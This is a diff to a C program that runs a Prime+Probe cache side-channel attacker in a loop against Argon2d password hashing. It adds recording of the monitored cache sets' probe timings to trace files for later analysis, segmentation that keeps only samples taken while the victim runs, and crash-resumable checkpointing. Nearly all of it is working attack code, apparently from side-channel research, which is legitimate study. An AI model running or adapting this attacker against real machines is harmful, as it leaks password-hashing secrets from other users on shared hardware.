@@ -25,7 +25,14 @@
  * point for an asynchronous attack to observe cache access patterns of
  * passwords hashed with Argon2d.
  * This file implements an asynchronous attacker running Prime+Probe in an
- * infinite loop.
+ * infinite loop. Without arguments, it prints the timestamps of every
+ * sample. With a trace file, it records the probe times of the monitored
+ * sets together with the timestamps (as the input of the sample) for the
+ * analysis with cachesc-argon2. Idle samples between the hashes are dropped
+ * by online change-point segmentation (optional).
+ * Ctrl+C ends the capture. The trace is checkpointed periodically, such that
+ * running the attacker again with the same trace continues a capture whose
+ * process was killed or crashed.
  */
 
 #include <assert.h>
@@ -56,14 +63,50 @@
 #define MSRMTS_PER_SAMPLE L2_SETS
 #define CPU_NUMBER 1
 
+// Only record samples while the victim is active. The first
+// SEGMENT_CALIB_SAMPLES samples calibrate the idle state, start the attacker
+// before the victim.
+#define SEGMENT_CAPTURE 1
+
+// Probes between checkpoints of the trace. A compressed trace can only be
+// checkpointed at the end of a block: as segmentation drops samples, its
+// complete blocks are flushed at the interval and the checkpoint is saved
+// once the written samples fill the current block.
+#define CHECKPOINT_INTERVAL (1 << 18)
+
+#if FULL_CACHE_ATTACK
+    #define TRACE_MSRMTS L2_SETS
+#else
+    #define TRACE_MSRMTS PARTIAL_ATTACK_LEN
+#endif
+
 
 // local functions and global variables
 static volatile int user_abort = 0;
 
 void abortHandler(int unused);
+void usage(const char *prog);
 
 int main(int argc, char **argv)
 {
+    uint32_t i;
+    uint64_t samples = 0;
+    bool ckpt_due = false;
+    trace_file *tf = NULL;
+    checkpoint *cp = NULL;
+    char ckpt_path[BUFSIZ];
+    uint64_t tsc[2];
+    time_type res[MSRMTS_PER_SAMPLE];
+    time_type trace_res[TRACE_MSRMTS];
+    #if SEGMENT_CAPTURE
+    segmenter *seg = NULL;
+    time_type *calib_res = NULL;
+    uint32_t calib_cnt = 0;
+    #endif
+
+    if (argc > 2)
+        usage(argv[0]);
+
     /*
      * Initial preparation
      */
@@ -84,6 +127,39 @@ int main(int argc, char **argv)
     // Register handler to catch CTRL+C and exit gracefully
     signal(SIGINT, abortHandler);
 
+    if (argc == 2) {
+        // The state of the capture: samples so far and the calibration of
+        // the segmentation
+        snprintf(ckpt_path, sizeof(ckpt_path), "%s.ckpt", argv[1]);
+        cp = prepare_checkpoint(ckpt_path);
+        add_checkpoint_region(cp, &samples, sizeof(samples));
+
+        #if SEGMENT_CAPTURE
+        seg = prepare_segmenter(TRACE_MSRMTS, sizeof(tsc));
+        calib_res = (time_type *) malloc(SEGMENT_CALIB_SAMPLES * sizeof(trace_res));
+        assert(calib_res);
+        add_checkpoint_region(cp, &calib_cnt, sizeof(calib_cnt));
+        add_checkpoint_region(cp, calib_res, SEGMENT_CALIB_SAMPLES * sizeof(trace_res));
+        add_segmenter_checkpoint(cp, seg);
+        #endif
+
+        if (!load_checkpoint(cp)) {
+            tf = resume_trace(argv[1], cp->trace_samples);
+            PRINT_LINE("Resuming capture after %lu samples\n", samples);
+        }
+        else {
+            #ifdef COMPRESS_TRACE
+            tf = create_compressed_trace(argv[1], TRACE_MSRMTS, sizeof(tsc));
+            #else
+            tf = create_trace(argv[1], TRACE_MSRMTS, sizeof(tsc));
+            #endif
+        }
+        if (!tf) {
+            fprintf(stderr, "Cannot create trace file %s\n", argv[1]);
+            exit(EXIT_FAILURE);
+        }
+    }
+
     cacheline *curr_head = cache_ds;
     cacheline *next_head;
 
@@ -97,12 +173,52 @@ int main(int argc, char **argv)
 
     while(!user_abort) {
         /* prime */
-        printf("start prime: %llu\n", __rdtsc());
+        tsc[0] = __rdtsc();
         curr_head = prime(curr_head);
 
         /* probe */
         next_head = probe(TARGET_CACHE, curr_head);
-        printf("probe done: %llu\n", __rdtsc());
+        tsc[1] = __rdtsc();
+
+        if (tf) {
+            if (samples && samples % CHECKPOINT_INTERVAL == 0) {
+                ckpt_due = true;
+                if (tf->blk_cnt && sync_trace(tf))
+                    fprintf(stderr, "Failed to flush trace file %s\n", argv[1]);
+            }
+            if (ckpt_due && tf->blk_cnt == 0) {
+                if (save_checkpoint(cp, tf))
+                    fprintf(stderr, "Failed to write checkpoint %s\n", ckpt_path);
+                ckpt_due = false;
+            }
+            ++samples;
+
+            get_msrmts_for_all_set(curr_head, res);
+            #if FULL_CACHE_ATTACK
+                memcpy(trace_res, res, sizeof(trace_res));
+            #else
+                for (i = 0; i < PARTIAL_ATTACK_LEN; ++i)
+                    trace_res[i] = res[attack_sets[i]];
+            #endif
+
+            #if SEGMENT_CAPTURE
+            if (calib_cnt < SEGMENT_CALIB_SAMPLES) {
+                memcpy(calib_res + calib_cnt * TRACE_MSRMTS, trace_res,
+                       sizeof(trace_res));
+                if (++calib_cnt == SEGMENT_CALIB_SAMPLES)
+                    calibrate_segmenter(seg, calib_res, calib_cnt);
+            }
+            else {
+                write_segmented_trace(seg, tf, (uint8_t *) tsc, trace_res);
+            }
+            #else
+            write_trace_samples(tf, (uint8_t *) tsc, trace_res, 1);
+            #endif
+        }
+        else {
+            printf("start prime: %lu\n", tsc[0]);
+            printf("probe done: %lu\n", tsc[1]);
+        }
 
         curr_head = next_head;
     }
@@ -113,6 +229,23 @@ int main(int argc, char **argv)
     /*
      * Cleanup
      */
+    if (tf) {
+        if (close_trace(tf))
+            fprintf(stderr, "Failed to write trace file %s\n", argv[1]);
+        else
+            remove_checkpoint(cp);
+        release_checkpoint(cp);
+    }
+
+    #if SEGMENT_CAPTURE
+    if (seg) {
+        if (calib_cnt == SEGMENT_CALIB_SAMPLES)
+            print_segments(seg);
+        release_segmenter(seg);
+        free(calib_res);
+    }
+    #endif
+
     #if FULL_CACHE_ATTACK
         release_cache_ds(ctx, cache_ds);
     #else
@@ -126,3 +259,8 @@ int main(int argc, char **argv)
 void abortHandler(int unused) {
     user_abort = 1;
 }
+
+void usage(const char *prog) {
+    fprintf(stderr, "Usage: %s [trace file]\n", prog);
+    exit(EXIT_FAILURE);
+}